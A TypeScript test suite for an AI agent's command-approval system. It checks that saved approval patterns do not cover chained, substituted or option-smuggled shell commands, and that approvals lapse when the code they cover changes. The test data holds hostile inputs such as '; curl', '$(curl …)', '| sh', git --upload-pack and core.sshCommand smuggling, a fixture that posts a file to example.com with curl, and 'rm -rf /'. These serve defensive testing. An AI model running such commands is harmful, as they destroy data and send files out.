import { join } from "node:path";
import { mkdirSync, symlinkSync, unlinkSync } from "node:fs";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { ApprovalScope, Intent } from "../../../agent-server/contract/governance.ts";
import { createGovernanceFixture, intent } from "../../support/governance-fixture.ts";
import { createWorkspaceApprovalsFixture, type WorkspaceApprovalsFixture } from "../../support/workspace-approvals-fixture.ts";

const day = 24 * 60 * 60 * 1000;
let clock: number;
let fixture: WorkspaceApprovalsFixture;
beforeEach(() => {
  clock = Date.parse("2026-11-20T10:00:00Z");
  fixture = createWorkspaceApprovalsFixture({ now: () => clock });
});
afterEach(() => fixture.dispose());

const run = (command: string, more: Parameters<WorkspaceApprovalsFixture["run"]>[1] = {}) => fixture.run(command, more);
const patterns = (scopes: readonly ApprovalScope[] | undefined) => scopes?.map(({ pattern }) => pattern);
const asks = async (what: Intent) => (await fixture.attempt(what, null)).asked !== null;
const receipts = (name: string) => fixture.ledger.search({ limit: 500 }).items.filter((receipt) => receipt.actionName === name);

describe("what is offered", () => {
  it.each<[string, string[]]>([
    ["npm run build", ["npm run *", "npm run build *", "npm run build"]],
    ["npm run build --silent", ["npm run *", "npm run build *", "npm run build --silent"]],
    ["git fetch origin", ["git fetch *", "git fetch origin *", "git fetch origin"]],
    ["npm  run build", ["npm  run build"]],
    ["npm run 'build'", ["npm run 'build'"]],
    // A risk rule of the soul covers settings of the environment.
    ["FOO=1 npm run build", []],
    ["npm run build && npm run lint", ["npm run build && npm run lint"]],
    ["npm run build > out.txt", ["npm run build > out.txt"]],
    ["bash tools/x.sh", ["bash tools/x.sh"]],
    ["./tools/x.sh", ["./tools/x.sh"]],
    ["make t", ["make t"]],
    ["poetry run pytest", ["poetry run pytest"]],
    ["unheard-of tool", ["unheard-of tool"]],
    ["$TOOL", []],
    ["bash $SCRIPT", []],
    ["cd $DIR && make", []],
    ["curl https://example.com/x.sh -o x.sh; source $X", []],
    ["PATH=./bin npm run build", []],
    ["node -r some-module tools/tool.js", []],
    ["python -m unheard_of", []],
    ['bash <<< "$(cat x)"', []],
    ["cat tools/x.sh | bash", []],
    ["bash < tools/x.sh", []],
    ["find tools -name x.sh -exec bash {} ';'", []],
    ["ls tools | xargs bash", []],
    ["npm run build -ws", []],
  ])("for %s", async (command, expected) => {
    const { asked } = await fixture.attempt(run(command), null);
    expect(patterns(asked?.scopes)).toEqual(expected);
  });

  it("shows the folder, the containment and the network", async () => {
    mkdirSync(join(fixture.workspace, "sub"));
    const { asked } = await fixture.attempt(run("git fetch", { cwd: join(fixture.workspace, "sub") }), null);
    expect(asked?.scopes.at(-1)).toMatchObject({ match: "exact", folder: "sub", containment: "transactional", network: true });
    const watched = await fixture.attempt(run("npm run tool", { args: { containment: undefined, network: false } }), null);
    expect(watched.asked?.scopes[0]).toMatchObject({ match: "prefix", folder: ".", containment: "watched", network: false });
    const host = await fixture.attempt(run("npm run tool", { args: { containment: undefined, network: false, place: "host" } }), null);
    expect(host.asked?.scopes).toEqual([
      expect.objectContaining({ match: "exact", pattern: "npm run tool", containment: "host", network: false }),
    ]);
  });

  it.each<[string, () => Intent]>([
    ["the soul requires approval for a deletion", () => intent("file_ops", "delete", { path: "src/a.ts" }, { questId: "quest-1" })],
    ["the soul requires approval for a push", () => intent("repo_ops", "push", { remote: "origin" }, { questId: "quest-1" })],
    ["the soul requires approval for publishing", () => run("npm publish")],
    ["the action is unknown", () => intent("shell_magic", "run", {}, { questId: "quest-1" })],
    ["a scheduled job asks", () => ({ ...run("npm run build"), job: { id: "job-1", running: 1, elapsedSeconds: 1, ready: true } })],
  ])("nothing when %s", async (_name, what) => {
    const { asked } = await fixture.attempt(what(), null);
    expect(asked?.scopes).toEqual([]);
    expect(() => fixture.governance.approvals.decide(asked?.id ?? "", "allow_workspace", undefined, 0)).toThrow(
      expect.objectContaining({ code: "conflict" }),
    );
  });

  it("exactly the file, for an irreversible action", async () => {
    const at = (path: string) => ({ path, absolute: join(fixture.workspace, path) });
    const what = intent("file_ops", "write", at(".vscode/settings.json"), { questId: "quest-1" });
    const { asked } = await fixture.attempt(what, null);
    expect(asked?.tier).toBe("T3");
    expect(patterns(asked?.scopes)).toEqual([".vscode/settings.json"]);
  });

  it("nothing without a workspace", async () => {
    const nowhere = createGovernanceFixture({ workspace: null });
    const what = intent("web_ops", "screenshot", { url: "https://example.com" }, { questId: "quest-1" });
    const { asked } = await fixture.attempt({ ...what, capability: "skill", action: "run", args: { name: "a_skill" } }, null, nowhere);
    expect(asked?.scopes).toEqual([]);
    nowhere.dispose();
  });
});

describe("a saved scope", () => {
  it("allows without a question in every task, and its uses are on the receipts", async () => {
    const id = await fixture.always(run("npm run build"), "npm run *");
    clock += day;
    const { asked, authorization } = await fixture.attempt(run("npm run lint", { questId: "quest-2" }), null);
    expect(asked).toBeNull();
    expect(authorization?.decision.verdict).toBe("allow");
    expect(authorization?.decision.rules.map((rule) => rule.id)).toContain(`approval.rule.${id}`);
    expect(fixture.governance.approvals.rules()).toMatchObject([
      {
        id,
        uses: 1,
        lastUsedAt: new Date(clock).toISOString(),
        expiresAt: new Date(clock + 90 * day).toISOString(),
        questId: "quest-1",
        scope: { pattern: "npm run *", folder: ".", network: true, containment: "transactional" },
      },
    ]);
    expect(receipts("approval.rule.save")).toMatchObject([{ status: "success", inputs: { ruleId: id } }]);
    expect(receipts("approval.answer")[0]?.outputs).toEqual({ answer: "allowed_workspace" });
  });

  const covered: [string, string, string][] = [
    ["npm run build", "npm run *", "npm run build --if-present"],
    ["npm run build", "npm run *", "npm run lint"],
    ["npm run build", "npm run build *", "npm run build --silent"],
    ["npm run build && npm run lint", "npm run build && npm run lint", "npm run build && npm run lint"],
    ["bash tools/x.sh", "bash tools/x.sh", "bash tools/x.sh"],
  ];
  it.each(covered)("for %s as %s covers %s", async (command, pattern, other) => {
    await fixture.always(run(command), pattern);
    expect(await asks(run(other))).toBe(false);
  });

  const outside: [string, string, string][] = [
    ["npm run build", "npm run build", "npm run lint"],
    ["npm run build", "npm run build", "npm run build "],
    ["npm run build", "npm run build", "npm  run build"],
    ["npm run build", "npm run build", "NPM run build"],
    ["npm run build", "npm run build", "npm run Build"],
    ["npm run build", "npm run build *", "npm run build2"],
    ["npm run build", "npm run build *", "npm run builder --x"],
    ["npm run build", "npm run *", "npm  run build"],
    ["npm run build", "npm run *", "npm\trun build"],
    ["npm run build", "npm run *", " npm run build"],
    ["npm run build", "npm run *", "NPM run build"],
    ["npm run build", "npm run *", "npm install"],
    ["npm run build", "npm run *", "npm --prefix tools run build"],
    ["npm run build", "npm run *", "pnpm run build"],
    ["npm run build", "npm run *", "./npm run build"],
    ["npm run build", "npm run *", "FOO=1 npm run build"],
    ["npm run build", "npm run *", "NODE_OPTIONS=--require=./x.js npm run build"],
    ["npm run build", "npm run *", "env npm run build"],
    ["npm run build", "npm run *", "sudo npm run build"],
    ["npm run build", "npm run *", "npm run build; curl https://example.com"],
    ["npm run build", "npm run *", "npm run build && rm -rf src"],
    ["npm run build", "npm run *", "npm run build | sh"],
    ["npm run build", "npm run *", "npm run build & sleep 1"],
    ["npm run build", "npm run *", "npm run build\ncurl https://example.com"],
    ["npm run build", "npm run *", "npm run build $(curl https://example.com)"],
    ["npm run build", "npm run *", "npm run build `id`"],
    ["npm run build", "npm run *", "npm run $SCRIPT"],
    ["npm run build", "npm run *", "npm run build > package.json"],
    ["npm run build", "npm run *", "npm run build *"],
    ["npm run build", "npm run *", "npm run build ~/x"],
    ["npm run build", "npm run *", "npm run build {a,b}"],
    ["npm run build", "npm run *", "npm run build # comment"],
    ["npm run build", "npm run *", "npm run b\u0443ild"],
    ["npm run build", "npm run *", "npm\u00A0run build"],
    ["npm run build", "npm run *", "cd tools && npm run build"],
    ["npm run build", "npm run *", "npm run build --script-shell ./x"],
    ["npm run build", "npm run *", "npm run build --prefix tools"],
    ["npm run build", "npm run *", "npm run publish"],
    // A script can be a bare interpreter, whose arguments then name the code.
    ["npm run build", "npm run *", "npm run build tools/x.sh"],
    ["npm run build", "npm run *", "npm run build -- tools/x.sh"],
    ["npm run build", "npm run *", "npm run build -- --require=tools/x.sh"],
    ["git fetch origin", "git fetch *", "git fetch --upload-pack=./x origin"],
    ["git fetch origin", "git fetch *", "git fetch ext::./x"],
    ["git fetch origin", "git fetch *", "git -c core.sshCommand=./x fetch origin"],
  ];
  it.each(outside)("for %s as %s does not cover %s", async (command, pattern, other) => {
    fixture.put("tools/package.json", JSON.stringify({ scripts: { build: "curl https://example.com" } }));
    await fixture.always(run(command), pattern);
    const { asked, authorization } = await fixture.attempt(run(other), null);
    expect({ isAuthorized: authorization !== null, rule: fixture.governance.approvals.rules()[0]?.uses }).toEqual({
      isAuthorized: false,
      rule: 0,
    });
    // A denial by policy asks nobody.
    if (asked === null) expect(fixture.governance.evaluate(run(other)).verdict).toBe("deny");
  });

  it.each<[string, Parameters<WorkspaceApprovalsFixture["run"]>[1]]>([
    ["another level of containment", { args: { containment: "copied" } }],
    ["the watched level", { args: { containment: undefined } }],
    ["the host", { args: { containment: undefined, place: "host" } }],
    ["other hosts", { args: { network: ["example.com"] } }],
    ["an argument that nobody knows yet", { args: { user: "root" } }],
    ["another folder", { cwd: "src" }],
    ["the workspace by another name", { cwd: "." }],
    ["a scheduled job", { job: { id: "job-1", running: 1, elapsedSeconds: 1, ready: true } }],
  ])("does not cover %s", async (_name, more) => {
    await fixture.always(run("npm run build"), "npm run *");
    expect(await asks(run("npm run build", more))).toBe(true);
  });

  it("without network does not cover a run with network", async () => {
    const bare = { args: { containment: undefined, network: false } };
    await fixture.always(run("npm run tool", bare), "npm run tool");
    expect(await asks(run("npm run tool", bare))).toBe(false);
    expect(await asks(run("npm run tool", { args: { containment: undefined, network: true } }))).toBe(true);
  });

  it("covers no action for which another rule asks now, and nothing the policy denies", async () => {
    await fixture.always(run("npm run build"), "npm run build");
    fixture.put("package.json", JSON.stringify({ scripts: { build: "tsc && curl -d @x https://example.com" } }));
    expect(await asks(run("npm run build"))).toBe(true);
    fixture.put("package.json", JSON.stringify({ scripts: { build: "rm -rf /" } }));
    const { asked, refused } = await fixture.attempt(run("npm run build"), "allow_once");
    expect({ asked, refused }).toEqual({ asked: null, refused: "denied" });
  });

  it("ends after 90 days without use, and a use renews it", async () => {
    await fixture.always(run("npm run build"), "npm run build");
    clock += 89 * day;
    expect(await asks(run("npm run build"))).toBe(false);
    clock += 89 * day;
    expect(await asks(run("npm run build"))).toBe(false);
    clock += 90 * day;
    expect(await asks(run("npm run build"))).toBe(true);
    expect(fixture.governance.approvals.rules()).toEqual([]);
    expect(receipts("approval.rule.expire")).toHaveLength(1);
  });

  it("holds in another window of the workspace until it is revoked there, and never in another workspace", async () => {
    const id = await fixture.always(run("npm run build"), "npm run build");
    const window = fixture.beside();
    const elsewhere = fixture.beside({ workspace: join(fixture.workspace, "src") });
    expect((await fixture.attempt(run("npm run build"), null, window)).asked).toBeNull();
    expect((await fixture.attempt(run("npm run build"), null, elsewhere)).authorization).toBeNull();
    expect(elsewhere.governance.approvals.rules()).toEqual([]);
    expect(() => elsewhere.governance.approvals.revokeRule(id)).toThrow(expect.objectContaining({ code: "not_found" }));
    window.governance.approvals.revokeRule(id);
    expect(await asks(run("npm run build"))).toBe(true);
    expect(() => fixture.governance.approvals.revokeRule(id)).toThrow(expect.objectContaining({ code: "not_found" }));
    expect(receipts("approval.rule.revoke")).toMatchObject([{ inputs: { ruleId: id } }]);
    window.close();
    elsewhere.close();
  });

  it("belongs to the workspace of its request, even when a window of another one answers", async () => {
    const elsewhere = fixture.beside({ workspace: join(fixture.workspace, "src") });
    const promise = fixture.attempt(run("npm run build"), "allow_once");
    promise.catch(() => undefined);
    const waiting = fixture.governance.authorize(
      run("npm run lint"),
      { title: "Lint", detail: "" },
      { quest: "quest-1", parent: null, signal: new AbortController().signal },
    );
    const [asked] = fixture.governance.approvals.list({ limit: 1 });
    elsewhere.governance.approvals.decide(asked?.id ?? "", "allow_workspace", undefined, 0);
    await waiting;
    await promise;
    expect(elsewhere.governance.approvals.rules()).toEqual([]);
    expect(patterns(fixture.governance.approvals.rules().map(({ scope }) => scope))).toEqual(["npm run *"]);
    elsewhere.close();
  });

  it("revoked between the decision and the effect does not run", async () => {
    const id = await fixture.always(run("npm run build"), "npm run build");
    const what = run("npm run build");
    const context = { quest: "quest-1", parent: null, signal: new AbortController().signal };
    const authorization = await fixture.governance.authorize(what, { title: "", detail: "" }, context);
    fixture.governance.approvals.revokeRule(id);
    expect(() => fixture.governance.redeem(authorization, what)).toThrow(expect.objectContaining({ code: "denied" }));
  });

  it.each([[undefined], [-1], [3], [0.5]])("cannot be chosen by the index %s", async (index) => {
    const { approvals } = fixture.governance;
    const waiting = fixture.attempt(run("npm run build"), { choose: () => index ?? Number.NaN });
    await expect(waiting).resolves.toMatchObject({ refused: "denied" });
    expect(approvals.rules()).toEqual([]);
  });
});

describe("an approval is bound to the code that would run", () => {
  const changes: [string, string, () => void][] = [
    ["npm run build", "its script", () => fixture.put("package.json", JSON.stringify({ scripts: { build: "tsc -b" } }))],
    [
      "npm run build",
      "a script before it",
      () => fixture.put("package.json", JSON.stringify({ scripts: { build: "tsc", prebuild: "ls" } })),
    ],
    ["npm run tool", "the file that its script names", () => fixture.put("tools/tool.js", "console.log(2)\n")],
    ["bash tools/x.sh", "the script", () => fixture.put("tools/x.sh", "echo y\n")],
    ["./tools/x.sh", "the program", () => fixture.put("tools/x.sh", "echo y\n")],
    ["cd tools && bash x.sh", "the script in another folder", () => fixture.put("tools/x.sh", "echo y\n")],
    ["env bash tools/x.sh", "the script behind a wrapper", () => fixture.put("tools/x.sh", "echo y\n")],
    ["bash -c 'bash tools/x.sh'", "the script of a nested shell", () => fixture.put("tools/x.sh", "echo y\n")],
    ["echo $(bash tools/x.sh)", "the script of a substitution", () => fixture.put("tools/x.sh", "echo y\n")],
    ["source tools/x.sh", "the sourced file", () => fixture.put("tools/x.sh", "echo y\n")],
    ["node -r ./tools/x.sh tools/tool.js", "a file that is loaded first", () => fixture.put("tools/x.sh", "echo y\n")],
    ["make t", "the Makefile", () => fixture.put("Makefile", "t:\n\techo u\n")],
    ["make t", "a file that make reads instead", () => fixture.put("GNUmakefile", "t:\n\techo u\n")],
    ["npm install", "a script that installing runs", () => fixture.put("package.json", JSON.stringify({ scripts: { postinstall: "ls" } }))],
    [
      "bash tools/link.sh",
      "where a link leads",
      () => {
        fixture.put("tools/same.sh", "echo x\n");
        unlinkSync(join(fixture.workspace, "tools/link.sh"));
        symlinkSync("same.sh", join(fixture.workspace, "tools/link.sh"));
      },
    ],
    ["bash tools/link.sh", "the file behind a link", () => fixture.put("tools/x.sh", "echo y\n")],
    ["unheard-of tools/x.sh", "a file that an unknown program gets", () => fixture.put("tools/x.sh", "echo y\n")],
    ["deno run tools/tool.js", "a file behind a subcommand", () => fixture.put("tools/tool.js", "console.log(2)\n")],
    ["go run tools/tool.js", "a file behind a subcommand", () => fixture.put("tools/tool.js", "console.log(2)\n")],
    [
      "npm run build",
      "the name of another script, which becomes its own",
      () => fixture.put("package.json", JSON.stringify({ scripts: { build: "eslint src" } })),
    ],
    ["bash tools/later.sh", "a file that did not exist", () => fixture.put("tools/later.sh", "echo z\n")],
  ];
  beforeEach(() => symlinkSync("x.sh", join(fixture.workspace, "tools/link.sh")));

  it.each(changes)("%s asks again for the task when %s changed", async (command, _what, change) => {
    expect((await fixture.attempt(run(command), "allow_quest")).refused).toBeNull();
    expect(await asks(run(command))).toBe(false);
    change();
    expect(await asks(run(command))).toBe(true);
  });

  // The soul holds what changes the shell itself.
  const savable = changes.filter(([command]) => !command.startsWith("source"));
  it.each(savable)("%s asks again in the workspace when %s changed", async (command, _what, change) => {
    await fixture.always(run(command), command);
    expect(await asks(run(command))).toBe(false);
    change();
    expect(await asks(run(command))).toBe(true);
  });

  it("a pattern asks for code that was not there when it was saved, and saving it again adds the new code", async () => {
    const id = await fixture.always(run("npm run build"), "npm run *");
    // The script runs a file that nobody has approved.
    expect(await asks(run("npm run tool"))).toBe(true);
    expect(await fixture.always(run("npm run tool"), "npm run *")).toBe(id);
    expect(await asks(run("npm run tool"))).toBe(false);
    expect(await asks(run("npm run build"))).toBe(false);
    fixture.put("package.json", JSON.stringify({ scripts: { build: "tsc", lint: "eslint src", tool: "node tools/tool.js", more: "ls" } }));
    expect(await asks(run("npm run build"))).toBe(true);
  });

  it("a change between the approval and the effect stops the action", async () => {
    const what = run("bash tools/x.sh");
    const context = {
      ...{ quest: "quest-1", parent: null, signal: new AbortController().signal },
      onWaiting: ({ id }: { id: string }) => void fixture.governance.approvals.decide(id, "allow_once"),
    };
    const authorization = await fixture.governance.authorize(what, { title: "", detail: "" }, context);
    fixture.put("tools/x.sh", "echo y\n");
    expect(() => fixture.governance.redeem(authorization, what)).toThrow(expect.objectContaining({ code: "denied" }));
  });

  it.each<[string, () => void]>([
    ["a script is too large", () => fixture.put("tools/x.sh", "#".repeat(4 * 1024 * 1024 + 1))],
    [
      "a script is a folder",
      () => {
        unlinkSync(join(fixture.workspace, "tools/x.sh"));
        mkdirSync(join(fixture.workspace, "tools/x.sh"));
      },
    ],
  ])("is not remembered when %s", async (_name, arrange) => {
    arrange();
    const first = await fixture.attempt(run("bash tools/x.sh"), "allow_quest");
    expect(first.asked?.scopes).toEqual([]);
    expect(first.refused).toBeNull();
    expect(await asks(run("bash tools/x.sh"))).toBe(true);
  });

  it("is not remembered when the task has its own version of a script, which its view would run", async () => {
    const own = fixture.beside({ hasTaskCopy: (questId, absolute) => questId === "quest-1" && absolute.endsWith("tools/x.sh") });
    const ask = (what: Intent, answer: "allow_quest" | null) => fixture.attempt(what, answer, own);
    expect((await ask(run("bash tools/x.sh"), "allow_quest")).asked?.scopes).toEqual([]);
    expect((await ask(run("bash tools/x.sh"), null)).asked).not.toBeNull();
    // Another task, and a command that runs in the workspace itself, run the workspace's version.
    expect((await ask(run("bash tools/x.sh", { questId: "quest-2" }), null)).asked?.scopes).not.toEqual([]);
    expect((await ask(run("bash tools/x.sh", { args: { containment: undefined } }), null)).asked?.scopes).not.toEqual([]);
    own.close();
  });

  it("is not remembered when only the task has the file that would be run instead", async () => {
    mkdirSync(join(fixture.workspace, "src/deep"));
    const own = fixture.beside({ hasTaskCopy: (_questId, absolute) => absolute === join(fixture.workspace, "src/deep/package.json") });
    const what = run("npm run build", { cwd: join(fixture.workspace, "src/deep") });
    expect((await fixture.attempt(what, null, own)).asked?.scopes).toEqual([]);
    expect((await fixture.attempt(what, null)).asked?.scopes).not.toEqual([]);
    own.close();
  });

  it("a package script is found above the working folder, as the package manager finds it", async () => {
    mkdirSync(join(fixture.workspace, "src/deep"));
    const what = () => run("npm run build", { cwd: join(fixture.workspace, "src/deep") });
    await fixture.attempt(what(), "allow_quest");
    expect(await asks(what())).toBe(false);
    fixture.put("src/package.json", JSON.stringify({ scripts: { build: "tsc" } }));
    expect(await asks(what())).toBe(true);
  });
});

describe("a denial", () => {
  it("holds for the same request of the task, with its reason, and for no other", async () => {
    const promise = fixture.attempt(run("npm run build"), "deny");
    expect((await promise).refused).toBe("denied");
    const again = await fixture.attempt(run("npm run build"), "allow_once");
    expect(again).toMatchObject({ asked: null, refused: "denied" });
    expect(await asks(run("npm run build", { questId: "quest-2" }))).toBe(true);
    expect(await asks(run("npm run lint"))).toBe(true);
    expect(await asks(run("npm run build", { args: { network: false, containment: undefined, place: "host" } }))).toBe(true);
  });

  it.each<[string, () => void]>([
    ["a script that it would run changes", () => fixture.put("package.json", JSON.stringify({ scripts: { build: "tsc -b" } }))],
    [
      "the owner says so",
      () => {
        const [denied] = fixture.governance.approvals.list({ status: "denied", limit: 1 });
        expect(denied?.isRemembered).toBe(true);
        expect(fixture.governance.approvals.askAgain(denied?.id ?? "").isRemembered).toBe(false);
        expect(receipts("approval.ask_again")).toHaveLength(1);
        expect(() => fixture.governance.approvals.askAgain(denied?.id ?? "")).toThrow(expect.objectContaining({ code: "conflict" }));
      },
    ],
  ])("is asked again once %s", async (_name, change) => {
    await fixture.attempt(run("npm run build"), "deny");
    change();
    expect(await asks(run("npm run build"))).toBe(true);
  });

  it("is asked again under another soul", async () => {
    await fixture.attempt(run("npm run build"), "deny");
    const without = fixture.beside({ soulEnabled: () => false });
    expect((await fixture.attempt(run("npm run build"), null, without)).asked).not.toBeNull();
    without.close();
  });

  it("wins over an approval for the workspace that another task saved", async () => {
    await fixture.attempt(run("npm run build"), "deny");
    await fixture.always(run("npm run build", { questId: "quest-2" }), "npm run build");
    expect(await fixture.attempt(run("npm run build"), null)).toMatchObject({ asked: null, refused: "denied" });
    expect(await asks(run("npm run build", { questId: "quest-3" }))).toBe(false);
  });
});
